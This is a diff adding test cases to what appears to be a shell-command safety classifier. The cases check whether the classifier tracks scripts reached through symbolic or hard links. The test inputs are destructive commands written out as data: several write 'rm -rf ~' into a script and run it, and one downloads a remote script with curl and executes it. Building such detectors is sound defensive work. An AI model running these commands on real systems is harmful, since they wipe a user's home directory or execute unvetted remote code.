@@ -43,6 +43,12 @@ describe("running a link to a file", () => {
     ["bash", "echo 'rm -rf ~' > x.sh; ln -sf evil.sh x.sh; sh x.sh", { as: "sh evil.sh" }],
     // A symbolic link's target is found from the link's folder: bin/x.sh is bin/bin/a.sh, not the a.sh written.
     ["bash", "echo 'rm -rf ~' > bin/a.sh; ln -s bin/a.sh bin/x.sh; bin/x.sh", { as: "bin/bin/a.sh" }],
+    // What is later written to the file a link reaches, or through the link, is in both.
+    ["bash", "ln -s a.sh x.sh; echo 'rm -rf ~' > a.sh; ./x.sh", "critical"],
+    ["bash", "ln -s a.sh x.sh; curl -o a.sh https://example.com/a.sh; ./x.sh", "critical"],
+    ["bash", "ln a.sh x.sh; echo 'rm -rf ~' > x.sh; sh a.sh", "critical"],
+    ["bash", "ln -s a.sh x.sh; echo 'rm -rf ~' | tee a.sh; bash x.sh", "critical"],
+    ["bash", "ln -s a.sh x.sh; echo 'ls' > a.sh; ./x.sh", "safe"],
     // A link the line makes but does not run is not run.
     ["bash", "echo 'rm -rf ~' > a.sh; ln -s a.sh x.sh", "safe"],
   ]);
